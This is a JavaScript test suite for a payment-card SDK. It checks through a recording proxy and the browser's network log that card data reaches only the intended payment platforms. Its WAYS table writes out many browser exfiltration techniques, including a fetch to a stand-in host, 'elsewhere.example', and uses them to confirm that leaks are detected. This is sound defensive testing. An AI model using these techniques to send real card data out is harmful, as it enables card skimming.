// Everything that leaves a page, by whatever way: the bytes at a proxy that every connection of the browser goes through,
// what the browser's own network log says, and messages to other origins, seen where they arrive. Where a platform's
// format does not demand it, no card number, no security code and no run of digits like a card's goes out in clear: with
// GreenPay, Online Payments and Worldline Acquiring never, with GP API and CCBill to the platform's host alone. What is typed
// on a page of the platform's own goes to that page's host.

import assert from 'node:assert/strict';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { after, before, test } from 'node:test';
import {
  CC_VISA,
  found,
  GP_DECLINED,
  GP_VISA,
  leaks,
  NO_MONEY,
  pause,
  root,
  startAll,
  typeCard,
  typeCustomer,
  until,
  VISA,
} from './harness.mjs';

/** A proxy that writes down what goes through it. It passes on what is for this machine, and refuses the rest. */
async function startProxy() {
  const requests = [];
  const sockets = new Set();
  const local = (host) => host === '127.0.0.1' || host === 'localhost';
  const server = http.createServer((request, response) => {
    const chunks = [];
    request.on('data', (chunk) => chunks.push(chunk));
    request.on('end', () => {
      const body = Buffer.concat(chunks);
      requests.push({
        method: request.method,
        url: request.url,
        headers: request.rawHeaders.join('\n'),
        body: body.toString('latin1'),
      });
      const to = new URL(request.url);
      if (!local(to.hostname)) return response.writeHead(502).end();
      const onward = http.request(to, { method: request.method, headers: request.headers }, (answer) => {
        response.writeHead(answer.statusCode, answer.headers);
        answer.pipe(response);
      });
      onward.on('error', () => response.destroy());
      onward.end(body);
    });
  });
  server.on('connect', (request, socket) => {
    const record = { method: 'CONNECT', url: request.url, headers: request.rawHeaders.join('\n'), body: '' };
    requests.push(record);
    const [host, port] = request.url.split(':');
    socket.on('error', () => {});
    if (!local(host)) return socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n');
    const onward = net.connect(Number(port), host, () => {
      socket.write('HTTP/1.1 200 Connection Established\r\n\r\n');
      socket.on('data', (chunk) => {
        record.body += chunk.toString('latin1');
      });
      socket.pipe(onward).pipe(socket);
    });
    for (const end of [socket, onward]) sockets.add(end);
    onward.on('error', () => socket.destroy());
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    requests,
    url: `http://127.0.0.1:${server.address().port}`,
    stop: async () => {
      for (const socket of sockets) socket.destroy();
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

const {
  key: { kid, jwk },
} = JSON.parse(readFileSync(path.join(root, 'tests/vectors/sealing.json'), 'utf8'));
const SEAL = { kid, alg: 'ECDH-ES', enc: 'A256GCM', key: { kty: 'EC', crv: 'P-256', x: jwk.x, y: jwk.y } };

let all;
let proxy;
let other;

before(async () => {
  all = await startAll({ platforms: ['greenpay', 'gp_api', 'online_payments', 'ccbill'] });
  proxy = await startProxy();
  // Another origin, which says yes to everything and whose page listens to messages.
  other = http
    .createServer((_request, response) => {
      response
        .writeHead(200, {
          'content-type': 'text/html',
          'access-control-allow-origin': '*',
          'access-control-allow-headers': '*',
        })
        .end('<!doctype html>other');
    })
    .listen(0, '127.0.0.1');
  await once(other, 'listening');
  other.origin = `http://127.0.0.1:${other.address().port}`;
});
after(async () => {
  other?.closeAllConnections();
  other?.close();
  await proxy?.stop();
  await all?.stop();
});

/** A page whose every way out is watched; `out()` is what left since. */
async function watched(body, { path = '/', ready = true } = {}) {
  const from = proxy.requests.length;
  const told = [];
  const { page, context, close } = await all.open({ proxy: { server: proxy.url }, ready: false });
  try {
    await context.exposeBinding('__arrived', (_, text) => {
      told.push({ method: 'message', url: 'to another origin', headers: '', body: text });
    });
    await context.addInitScript(() => {
      addEventListener('message', ({ data, origin }) => {
        if (origin !== location.origin) globalThis.__arrived(JSON.stringify(data));
      });
    });
    const cdp = await context.newCDPSession(page);
    cdp.on('Network.requestWillBeSent', ({ requestId, request }) => {
      const record = {
        method: request.method,
        url: request.url + (request.urlFragment ?? ''),
        headers: JSON.stringify(request.headers),
        body: request.postData ?? '',
      };
      told.push(record);
      if (request.hasPostData && !request.postData)
        cdp.send('Network.getRequestPostData', { requestId }).then(
          ({ postData }) => {
            record.body = postData;
          },
          () => {},
        );
    });
    cdp.on('Network.webSocketCreated', ({ url }) => told.push({ method: 'WebSocket', url, headers: '', body: '' }));
    cdp.on('Network.webSocketFrameSent', ({ response }) =>
      told.push({ method: 'WebSocket', url: 'frame', headers: '', body: response.payloadData }),
    );
    await cdp.send('Network.enable');
    await page.goto(all.url + path);
    if (ready) await page.waitForSelector('#pay-form[data-ready]');
    return await body({ page, out: () => [...proxy.requests.slice(from), ...told] });
  } finally {
    all.front.cut = () => false;
    await all.sandbox.clearFaults();
    await close();
  }
}

const own = (html = '') => {
  all.front.pages['/egress.html'] =
    `<!doctype html><meta charset="utf-8"><title>own</title><link rel="icon" href="data:,">${html}`;
};
const OWN = { path: '/egress.html', ready: false };

// ---------------------------------------------------------------------------------------- the recorder sees

const WAYS = {
  fetch: (number, origin) => {
    fetch(`${origin}/x`, { method: 'POST', body: number }).catch(() => {});
  },
  'fetch in a header': (number, origin) => {
    fetch(`${origin}/x`, { headers: { 'x-note': number } }).catch(() => {});
  },
  XMLHttpRequest: (number, origin) => {
    const request = new XMLHttpRequest();
    request.open('POST', `${origin}/x`);
    request.send(number);
  },
  sendBeacon: (number, origin) => {
    navigator.sendBeacon(`${origin}/x`, number);
  },
  'an image': (number, origin) => {
    new Image().src = `${origin}/x?${number}`;
  },
  'a style sheet': (number, origin) => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${origin}/${number}` }),
    );
  },
  'a script': (number, origin) => {
    document.head.append(Object.assign(document.createElement('script'), { src: `${origin}/${number}` }));
  },
  'a link': (number, origin) => {
    document.body.append(Object.assign(document.createElement('a'), { href: `${origin}/${number}`, id: 'a' }));
    document.getElementById('a').click();
  },
  'a form': (number, origin) => {
    const form = Object.assign(document.createElement('form'), { method: 'post', action: `${origin}/x` });
    form.append(Object.assign(document.createElement('input'), { name: 'n', value: number }));
    document.body.append(form);
    form.submit();
  },
  'a form in the address': (number, origin) => {
    const form = Object.assign(document.createElement('form'), { action: `${origin}/x` });
    form.append(Object.assign(document.createElement('input'), { name: 'n', value: number }));
    document.body.append(form);
    form.submit();
  },
  'a frame': (number, origin) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: `${origin}/?${number}` }));
  },
  'a message to another origin': (number, origin) => {
    const frame = Object.assign(document.createElement('iframe'), { src: `${origin}/` });
    frame.onload = () => frame.contentWindow.postMessage({ deep: [number] }, '*');
    document.body.append(frame);
  },
  'a WebSocket': (number, origin) => {
    new WebSocket(`${origin.replace('http', 'ws')}/${number}`).onerror = () => {};
  },
  EventSource: (number, origin) => {
    new EventSource(`${origin}/${number}`);
  },
  "a worker's fetch": (number, origin) => {
    new Worker(
      URL.createObjectURL(new Blob([`fetch('${origin}/x', { method: 'POST', body: '${number}' }).catch(() => {})`])),
    );
  },
  'a host that is not of this machine': (number) => {
    fetch(`http://elsewhere.example/x?${number}`, { mode: 'no-cors' }).catch(() => {});
  },
};

for (const [name, way] of Object.entries(WAYS)) {
  test(`the recorder sees a number that leaves by ${name}`, async () => {
    own('<body>');
    await watched(async ({ page, out }) => {
      assert.deepEqual(leaks(out(), VISA), []);
      await page.evaluate(({ way, number, origin }) => globalThis.eval(`(${way})`)(number, origin), {
        way: String(way),
        number: VISA.number,
        origin: other.origin,
      });
      await until('the leak', () => leaks(out(), VISA).length > 0);
    }, OWN);
  });
}

// -------------------------------------------------------------------------------------------- the demo page

for (const way of ['relay', 'direct']) {
  test(`GreenPay, ${way}: nothing of the card leaves the page in clear`, async () => {
    for (const card of [VISA, NO_MONEY]) {
      await watched(async ({ page, out }) => {
        await page.check('#platform-greenpay');
        await page.check(`#way-${way}`);
        await typeCard(page, card);
        await page.click('#pay');
        await page.waitForSelector('#result:not([hidden]), #notice.notice-bad');
        assert.ok(
          out().some(({ body }) => body.includes('"ld"')),
          'a sealed card went out',
        );
        assert.deepEqual(leaks(out(), card), []);
      });
    }
  });
}

/** Where a platform wants the card in clear. */
const wantsCards = ({ method, url }) =>
  method === 'POST' &&
  [
    `${all.gp.url}/payment-methods`,
    ...['', '-verify'].map((end) => `${all.wire.ccbill.base_url.url}/payment-tokens/merchant-only${end}`),
  ].includes(url);

/** What holds the card goes to the platform's one address, the rest holds nothing. */
function onlyToThePlatform(records, card) {
  const sealed = records.filter(wantsCards);
  assert.deepEqual(
    leaks(
      records.filter((record) => !wantsCards(record)),
      card,
    ),
    [],
  );
  for (const { url, headers } of sealed)
    assert.deepEqual(leaks([{ method: 'POST', url, headers, body: '' }], card), []);
  return sealed.filter(({ body }) => found(body, card.number).length > 0).length;
}

test("GP API: the card goes to the platform's host and nowhere else", async () => {
  for (const card of [GP_VISA, GP_DECLINED]) {
    await watched(async ({ page, out }) => {
      await page.check('#platform-gp_api');
      await typeCard(page, card);
      await page.click('#pay');
      await page.waitForSelector('#result:not([hidden]), #notice.notice-bad');
      // Once at the proxy, once in the browser's log.
      assert.equal(onlyToThePlatform(out(), card), 2);
    });
  }
});

const WORLDLINE = { number: '4012000033330026', expiry: '1230', cvc: '739', holder: 'Zoë Müller' };

for (const [what, card, save] of [
  ['stored', WORLDLINE, true],
  ['charged once', WORLDLINE, false],
  ['declined', { ...WORLDLINE, number: '4000000000000002' }, true],
]) {
  test(`Online Payments, ${what}: nothing of the card leaves the page in clear but its first eight digits`, async () => {
    await watched(async ({ page, out }) => {
      await page.check('#platform-online_payments');
      await page.setChecked('#save-card', save);
      await typeCard(page, card);
      await page.click('#pay');
      await page.waitForSelector('#result:not([hidden]), #notice.notice-bad');
      const sent = out();
      assert.ok(
        sent.some(({ body }) => body.includes('"encrypted_customer_input"')),
        'a sealed card went out',
      );
      assert.deepEqual(leaks(sent, card), []);
      for (const { url, headers, body } of sent)
        assert.deepEqual(found([url, headers, body].join('\n'), card.number.slice(0, 9)), [], url);
      // Of the shop, only the sealed card; the digits go to the platform.
      const digits = sent.filter(({ body }) => body.includes(card.number.slice(0, 8)));
      assert.ok(
        digits.length > 0 &&
          digits.every(
            ({ url }) =>
              url.endsWith('/services/getIINdetails') && url.startsWith(all.sandbox.of('online_payments').base_url),
          ),
        digits.map(({ url }) => url).join(),
      );
    });
  });
}

/** On a page of the platform's, in this window or in a frame; what was typed goes to its host, and nothing else anywhere. */
async function typedThere(records, place, path) {
  for (const [name, text] of [
    ['cardNumber', WORLDLINE.number],
    ['cardholderName', WORLDLINE.holder],
    ['expiryDate', '12/30'],
    ['cvv', WORLDLINE.cvc],
  ]) {
    await place.locator(`[name=${name}]`).fill(text);
  }
  const there = ({ method, url }) =>
    method === 'POST' &&
    new URL(url).pathname.startsWith(path) &&
    url.startsWith(all.sandbox.of('online_payments').base_url);
  return () => {
    const sent = records();
    assert.ok(
      sent.some((record) => there(record) && found(record.body, WORLDLINE.number).length > 0),
      'the platform got the card',
    );
    assert.deepEqual(
      leaks(
        sent.filter((record) => !there(record)),
        WORLDLINE,
      ),
      [],
    );
  };
}

test("Online Payments, the platform's own page: the card goes there and nowhere else", async () => {
  await watched(async ({ page, out }) => {
    await page.check('#platform-online_payments');
    await page.check('#way-page');
    await page.click('#pay');
    await page.waitForURL('**/hostedcheckout/**');
    const check = await typedThere(out, page, '/hostedcheckout/');
    await page.click('button[value=pay]');
    await page.click('#continue');
    await page.waitForURL((url) => url.href.startsWith(all.url));
    await page.waitForSelector('#result:not([hidden]), #notice.notice-bad');
    check();
  });
});

test("Online Payments, the platform's form in a frame: the card goes there and nowhere else", async () => {
  await watched(async ({ page, out }) => {
    await page.check('#platform-online_payments');
    await page.check('#way-frame');
    await page.waitForSelector('#frame[data-ready]');
    const check = await typedThere(out, page.frameLocator('#frame iframe'), '/hostedtokenization/');
    await page.click('#pay');
    await page.waitForSelector('#result:not([hidden]), #notice.notice-bad');
    check();
  });
});

test("CCBill: the card goes to the platform's host and nowhere else, in whatever way it is paid", async () => {
  for (const [save, currency, amount, answer] of [
    [true, 'USD', '24.50'],
    [true, 'USD', '24.31'],
    [false, 'USD', '24.50'],
    [false, 'EUR', '22.50', '#ask-yes'],
    [false, 'EUR', '22.50', '#ask-no'],
  ]) {
    await watched(async ({ page, out }) => {
      await page.check('#platform-ccbill');
      await page.setChecked('#save-card', save);
      await page.selectOption('#currency', currency);
      await page.fill('#amount', amount);
      await typeCustomer(page);
      await typeCard(page, CC_VISA);
      await page.click('#pay');
      if (answer) await page.click(answer);
      await page.waitForSelector('#result:not([hidden]), #notice.notice-bad');
      assert.equal(onlyToThePlatform(out(), CC_VISA), 2);
      // What the format has of a card in an address: its first six digits and its last four.
      const asked = out().filter(({ method, url }) => method === 'GET' && url.includes('/threeds-required'));
      assert.equal(asked.length, save ? 0 : 2);
      for (const { url } of asked)
        assert.match(url, /\?bin=447370&last4=3598&clientAccnum=\d+&clientSubacc=1&currencyCode=\d+$/);
    });
  }
});

// ----------------------------------------------------------------------- the package alone, and all that goes wrong

/** Runs in the page: every verb, with what may go wrong before and while it sends; the codes of what was thrown. */
async function everything({ entry, key, seal, card, other: origin, gp, op, pay, cc }) {
  const cardseal = await import(`/pkg/${entry}.js`);
  const said = [];
  const attempt = async (name, work) => {
    try {
      await work();
      said.push(`${name}: done`);
    } catch (error) {
      said.push(`${name}: ${error.code}`);
    }
  };
  await cardseal.load();
  const order = { session: '2b1f0c52-6f0c', token: '7d9cc4a3-0b4e' };
  const access = { access_token: 't', reference: 'r', base_url: gp };
  const greenpay = new cardseal.GreenPay({ publicKey: key, environment: { checkout: origin } });
  const dead = new cardseal.GreenPay({ publicKey: key, environment: { checkout: 'http://127.0.0.1:1' } });
  const gpApi = new cardseal.GpApi();
  const acquiring = new cardseal.WorldlineAcquiring();
  const relay = (kind, more) => ({
    id: 'ses_00112233445566778899aabbccddeeff',
    platform: 'greenpay',
    kind,
    mode: 'relay',
    created_at: new Date().toISOString(),
    expires_at: new Date(Date.now() + 600_000).toISOString(),
    ...more,
  });
  const own = (kind, more) => relay(kind, { platform: 'worldline_acquiring', seal, ...more });
  const ccbill = new cardseal.CcBill();
  const front = { access_token: 't', base_url: cc, client_accnum: 900684, client_subacc: 0, currency_code: 978 };
  const customer = {
    firstName: 'Ana',
    lastName: 'Mora',
    email: 'ana@shop.example',
    postalCode: '85281',
    country: 'US',
  };

  await attempt('validate', () => cardseal.validateCard(card));
  await attempt('brands', () => cardseal.candidateBrands(card.number));
  for (let at = 1; at <= card.number.length; at++)
    await attempt('format', () => cardseal.formatCardNumber(card.number.slice(0, at), at));
  await attempt('unknown session', () => greenpay.tokenize(relay('tokenize'), card));
  await attempt('unknown payment', () => greenpay.pay(relay('payment'), card));
  await attempt('not the platform', () => greenpay.tokenize(order, card));
  await attempt('no platform', () => dead.tokenize(order, card));
  await attempt('aborted', () => greenpay.pay(order, card, { signal: AbortSignal.abort() }));
  await attempt('too late', () => greenpay.tokenize({ ...order, created_at: 0 }, card));
  await attempt('a wrong card', () => greenpay.tokenize(order, { ...card, expiry: '01/20' }));
  await attempt('a number for a name', () => greenpay.tokenize(order, { ...card, holder: card.number }));
  await attempt('a number for a token', () => greenpay.updateToken(order, card, { token: `${card.number} ` }));
  await attempt('a wrong session', () => greenpay.tokenize({ session: `${card.number}/..`, token: 'x' }, card));
  await attempt('gp: wrong token', () => gpApi.tokenize(access, card));
  await attempt('gp: a wrong card', () => gpApi.tokenize(access, { ...card, cvc: '' }));
  await attempt('gp: no base', () => gpApi.tokenize({ access_token: 't', reference: 'r' }, card));
  await attempt('gp: another kind', () => gpApi.tokenize(relay('tokenize'), card));
  await attempt('acquiring: unknown session', () => acquiring.tokenize(own('tokenize'), card));
  await attempt('acquiring: unknown payment', () => acquiring.pay(own('payment'), card));
  await attempt('acquiring: a network token', () =>
    acquiring.pay(own('payment'), { ...card, cvc: '' }, { networkToken: { cryptogram: 'AgAA' } }),
  );
  await attempt('acquiring: a wrong key', () =>
    acquiring.pay(own('payment', { seal: { ...seal, key: { ...seal.key, y: seal.key.x } } }), card),
  );
  await attempt('acquiring: a number for a session', () =>
    acquiring.pay(own('payment', { id: `${card.number} ` }), card),
  );
  await attempt('acquiring: a number for a cryptogram', () =>
    acquiring.pay(own('payment'), card, { networkToken: { cryptogram: `${card.number} ` } }),
  );
  await attempt('acquiring: too late', () =>
    acquiring.pay(own('payment', { expires_at: new Date(0).toISOString() }), card),
  );
  const online = new cardseal.OnlinePayments();
  const context = { countryCode: 'DE', currencyCode: 'EUR', amount: 1000 };
  const known = { paymentProductId: 1 };
  await attempt('op: first digits', () => online.iinDetails(op, card.number, context));
  for (let at = 1; at <= card.number.length; at++)
    await online.iinDetailsRequest(op, card.number.slice(0, at), context);
  await attempt('op: sealed', () => online.encrypt(op, card, { kind: 'tokenize', context }));
  await attempt('op: stored', () => online.tokenize(op, card, { context }));
  await attempt('op: charged', () => online.pay(pay, card, { context, idempotencyKey: 'k-1' }));
  await attempt('op: used before', () => online.tokenize(op, card, known));
  await attempt('op: no platform', () => online.tokenize({ ...op, clientApiUrl: 'http://127.0.0.1:1/client' }, card));
  await attempt('op: not the platform', () => online.tokenize({ ...op, clientApiUrl: `${origin}/client` }, card));
  await attempt('op: another shopper', () => online.encrypt({ ...op, clientSessionId: 'x' }, card, known));
  await attempt('op: aborted', () => online.encrypt({ ...op, customerId: 'x' }, card, { signal: AbortSignal.abort() }));
  await attempt('op: a wrong card', () => online.encrypt(op, { ...card, number: `${card.number}0` }, { context }));
  await attempt('op: a number for a name', () => online.encrypt(op, { ...card, holder: card.number }, { context }));
  await attempt('op: a number for a session', () =>
    online.encrypt({ ...op, clientSessionId: `${card.number}/..` }, card, known),
  );
  await attempt('op: a number for a country', () =>
    online.encrypt(op, card, { context: { countryCode: card.number } }),
  );
  await attempt('op: not back yet', () => online.confirmPayment(pay, { RETURNMAC: '' }));
  await attempt('cc: wrong token', () => ccbill.createPaymentToken(front, card, { customer }));
  await attempt('cc: wrong token, no check', () => ccbill.createPaymentToken(front, card, { customer, verify: false }));
  await attempt('cc: is it needed', () => ccbill.threeDsRequired(front, card));
  await attempt('cc: a wrong card', () => ccbill.createPaymentToken(front, { ...card, cvc: '' }, { customer }));
  await attempt('cc: a number for a customer', () =>
    ccbill.createPaymentToken(front, card, {
      customer: { ...customer, lastName: card.number, email: card.number, address1: card.number },
    }),
  );
  await attempt('cc: a number for a sale', () =>
    ccbill.createPaymentToken(front, card, { customer, subscriptionId: card.number }),
  );
  await attempt('cc: no platform', () =>
    ccbill.createPaymentToken({ ...front, base_url: 'http://127.0.0.1:1' }, { ...card, number: '1' }, { customer }),
  );
  await attempt('cc: more than is asked for', () =>
    ccbill.confirmPayment(
      { id: 'ses_00112233445566778899aabbccddeeff', ...front, amount: '1' },
      {
        paymentToken: { paymentTokenId: '01ab', clientAccnum: 900684, clientSubacc: 0, card },
        threedsInformation: {
          status: 'N',
          success: false,
          card,
          error: card.number,
        },
      },
    ),
  );
  await attempt('confirm', () => greenpay.confirmToken(relay('tokenize'), { raw: { status: 201, requestId: 'x' } }));
  if (cardseal.terminate) cardseal.terminate();
  return said;
}

for (const entry of ['index', 'inline', 'worker']) {
  test(`the package alone, ${entry}: whatever goes wrong, only the hosts of GP API and CCBill get the card`, async () => {
    own(`<body><iframe src="${other.origin}/"></iframe>`);
    const card = { number: '4716108999716531', expiry: '12/30', cvc: '739', holder: 'Ana Maria', nickname: 'My Visa' };
    await watched(async ({ page, out }) => {
      const key = (
        await (
          await fetch(`${all.server.url}/v1/sessions`, {
            method: 'POST',
            headers: { 'content-type': 'application/json', origin: all.url },
            body: JSON.stringify({ platform: 'greenpay', kind: 'tokenize' }),
          })
        ).json()
      ).public_key;
      assert.ok(key, "the shop's key");
      const worldline = async (body, headers) =>
        (
          await fetch(`${all.server.url}/v1/sessions`, {
            method: 'POST',
            headers: { 'content-type': 'application/json', ...headers },
            body: JSON.stringify({ platform: 'online_payments', ...body }),
          })
        ).json();
      const op = await worldline({ kind: 'tokenize' }, { origin: all.url });
      const pay = await worldline(
        { kind: 'payment', amount: '10.00', currency: 'EUR' },
        { authorization: `Bearer ${all.server.apiKey}` },
      );
      assert.ok(op.clientSessionId && pay.clientSessionId, JSON.stringify([op, pay]));
      const said = await page.evaluate(({ everything, args }) => globalThis.eval(`(${everything})`)(args), {
        everything: String(everything),
        args: {
          entry,
          key,
          seal: SEAL,
          card,
          other: other.origin,
          gp: all.gp.url,
          op,
          pay,
          cc: all.wire.ccbill.base_url.url,
        },
      });
      assert.equal(said.filter((text) => text.endsWith(': done')).length, 2 + card.number.length + 4, said.join('\n'));
      await pause(300);
      const sent = out();
      // The worker keeps to the policy under which the server hands out its script, so that two of its requests stay away.
      assert.ok(sent.filter(({ body }) => body.includes('"ld"')).length >= 2, said.join('\n'));
      // Three are sealed, each seen at the proxy, and in the browser's log if a page sent it; what is refused is not.
      assert.equal(
        sent.filter(({ body }) => body.includes('"sealed"')).length,
        entry === 'worker' ? 3 : 6,
        said.join('\n'),
      );
      assert.ok(onlyToThePlatform(sent, card) >= 1, said.join('\n'));
      for (const path of ['/v1/tokens', '/v1/payments']) {
        assert.ok(
          sent.some(({ url, body }) => url === all.url + path && body.includes('"encrypted_customer_input"')),
          `${path}\n${said.join('\n')}`,
        );
      }
      // The platform looks up eight digits, and nobody else gets as many.
      for (const record of sent) {
        if (!wantsCards(record))
          assert.deepEqual(found(record.url + record.body, card.number.slice(0, 9)), [], record.url);
      }
    }, OWN);
  });
}

test('a page that is left in the middle sends nothing more', async () => {
  await watched(async ({ page, out }) => {
    await page.check('#platform-greenpay');
    await typeCard(page, VISA);
    await page.evaluate(() => {
      history.pushState({}, '', '#elsewhere');
      dispatchEvent(new Event('pagehide'));
    });
    await page.goto(`${other.origin}/`);
    await pause(200);
    assert.deepEqual(leaks(out(), VISA), []);
    assert.ok(!out().some(({ headers }) => /referer/i.test(headers) && found(headers, VISA.number).length > 0));
  });
});
